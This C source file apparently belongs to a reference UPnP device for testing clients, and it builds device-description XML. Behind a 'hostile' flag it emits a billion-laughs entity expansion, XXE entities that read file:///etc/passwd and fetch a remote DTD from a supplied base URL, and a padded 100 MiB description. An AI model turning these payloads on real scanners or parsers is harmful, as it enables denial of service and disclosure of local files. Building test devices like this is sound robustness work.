/*
 * UPnP device descriptions; see upnp_desc.h.  The hostile declarations go
 * where a vulnerable parser acts on them: entities referenced from the
 * fields a scanner reads (friendlyName, modelDescription), and a parameter
 * entity referenced inside the DTD itself, which some parsers fetch even
 * with general entity substitution off.
 */
#include "refdev/upnp_desc.h"

#include "core/util.h"

#include <string.h>

#define HEAD "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n"
#define ROOT_OPEN "<root xmlns=\"urn:schemas-upnp-org:device-1-0\" configId=\"1\">\n" \
	"<specVersion><major>1</major><minor>1</minor></specVersion>\n<device>\n" \
	"<deviceType>" UPNP_DEVICE_TYPE "</deviceType>\n"
#define IDENTITY "<manufacturer>RefDev</manufacturer>\n" \
	"<manufacturerURL>http://refdev.invalid/</manufacturerURL>\n" \
	"<modelName>RD-100</modelName>\n" \
	"<modelNumber>RD-100-1</modelNumber>\n" \
	"<serialNumber>RD100-000123</serialNumber>\n" \
	"<UDN>" UPNP_UDN "</UDN>\n"
#define ROOT_CLOSE "</device>\n</root>\n"
#define FRIENDLY "RefDev Camera RD-100"
#define MODEL_DESC "RefDev reference IP camera"

/* Ten references to the entity before, nine levels deep: 10^9 "lol"s. */
static void
billion_laughs(buf_t *b)
{
	buf_printf(b, "<!ENTITY lol \"lol\">\n");
	for (int i = 1; i <= 9; i++) {
		buf_printf(b, "<!ENTITY lol%d \"", i);
		for (int k = 0; k < 10; k++) {
			if (i == 1)
				buf_printf(b, "&lol;");
			else
				buf_printf(b, "&lol%d;", i - 1);
		}
		buf_printf(b, "\">\n");
	}
}

char *
upnp_desc_doc(unsigned hostile, const char *base)
{
	buf_t b;
	buf_init(&b, 64 * 1024);
	buf_printf(&b, HEAD);
	const char *friendly = FRIENDLY, *desc = MODEL_DESC;
	if (hostile) {
		buf_printf(&b, "<!DOCTYPE root [\n");
		if (hostile & UPNP_ENTITY_EXPANSION) {
			billion_laughs(&b);
			friendly = "&lol9;";
		}
		if (hostile & UPNP_EXTERNAL_ENTITY) {
			buf_printf(&b, "<!ENTITY xxefile SYSTEM \"file:///etc/passwd\">\n"
			               "<!ENTITY xxe SYSTEM \"%s" UPNP_XXE_PATH "\">\n"
			               "<!ENTITY %% xxedtd SYSTEM \"%s" UPNP_XXE_PATH "?dtd\">\n"
			               "%%xxedtd;\n", base, base);
			desc = "&xxefile;";
			friendly = hostile & UPNP_ENTITY_EXPANSION ? "&lol9;&xxe;" : "&xxe;";
		}
		buf_printf(&b, "]>\n");
	}
	buf_printf(&b, ROOT_OPEN "<friendlyName>%s</friendlyName>\n" IDENTITY
	               "<modelDescription>%s</modelDescription>\n" ROOT_CLOSE,
	    friendly, desc);
	return buf_steal(&b);
}

/*
 * The huge description: PREFIX, then as many whole FILLER comments as fit,
 * then spaces, then SUFFIX, UPNP_HUGE_LEN bytes in all, so a client that
 * reads it to the end has a well-formed document.
 */
static const char PREFIX[] = HEAD ROOT_OPEN "<friendlyName>" FRIENDLY "</friendlyName>\n"
	IDENTITY "<modelDescription>" MODEL_DESC "</modelDescription>\n";
static const char FILLER[] =
	"<!-- refdev upnp-huge: this description is 100 MiB long, padding -->\n";
static const char SUFFIX[] = ROOT_CLOSE;

size_t
upnp_huge_fill(const void *arg, uint64_t off, unsigned char *buf, size_t cap)
{
	const uint64_t np = sizeof(PREFIX) - 1, nf = sizeof(FILLER) - 1, ns = sizeof(SUFFIX) - 1;
	const uint64_t fill_end = np + (UPNP_HUGE_LEN - np - ns) / nf * nf;
	const uint64_t suffix_at = UPNP_HUGE_LEN - ns;
	size_t k = 0;
	while (k < cap && off < UPNP_HUGE_LEN) {
		const char *src;
		uint64_t run;
		if (off < np) {
			src = PREFIX + off;
			run = np - off;
		} else if (off < fill_end) {
			uint64_t in = (off - np) % nf;
			src = FILLER + in;
			run = nf - in;
		} else if (off < suffix_at) {
			src = NULL;
			run = suffix_at - off;
		} else {
			src = SUFFIX + (off - suffix_at);
			run = UPNP_HUGE_LEN - off;
		}
		size_t m = run < cap - k ? (size_t)run : cap - k;
		if (src)
			memcpy(buf + k, src, m);
		else
			memset(buf + k, ' ', m);
		k += m;
		off += m;
	}
	return k;
}
